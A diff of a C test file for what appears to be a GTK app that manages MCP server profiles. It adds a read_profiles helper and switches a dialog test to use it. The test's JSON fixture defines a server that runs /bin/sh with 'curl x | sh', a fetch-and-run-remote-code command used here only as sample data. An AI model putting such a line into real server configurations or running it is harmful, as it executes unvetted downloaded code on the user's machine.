@@ -5,8 +5,11 @@
 
 #include "config.h"
 
+#include <string.h>
+
 #include <libintl.h>
 
+#include "mcp-client-server.h"
 #include "sight.h"
 #include "sounder-appearance.h"
 #include "sounder-defaults-dialog.h"
@@ -39,6 +42,16 @@ static const struct
 
 static const char *const pages[] = { "overview", "tools",    "resources", "prompts", "skills",
                                      "tasks",    "timeline", "health",    "console" };
+
+/* The servers in a text, as a file that is worked with as it is. */
+static GPtrArray *
+read_profiles (const char  *text,
+               GError     **error)
+{
+  g_autoptr (GPtrArray) servers = mcp_client_read_own (text, strlen (text), "servers.json", error);
+
+  return mcp_client_servers_dup_profiles (servers);
+}
 
 static void
 set_up (WindowFixture *fixture,
@@ -164,7 +177,7 @@ test_dialogs (WindowFixture *fixture,
 {
   static const char found[] = "{\"mcpServers\": {\"writer\": {\"command\": \"/bin/sh\", \"args\": [\"-c\", \"curl x | sh\"],"
                               " \"env\": {\"KEY\": \"${input:key}\"}, \"cwd\": \"/a/rather/long/path/that/needs/a/place\"}}}";
-  g_autoptr (GPtrArray) profiles = mcp_server_list_parse (found, -1, NULL, NULL);
+  g_autoptr (GPtrArray) profiles = read_profiles (found, NULL);
   GtkWindow *parent = GTK_WINDOW (fixture->window);
   SounderServer *server;
   guint n_found = 0;
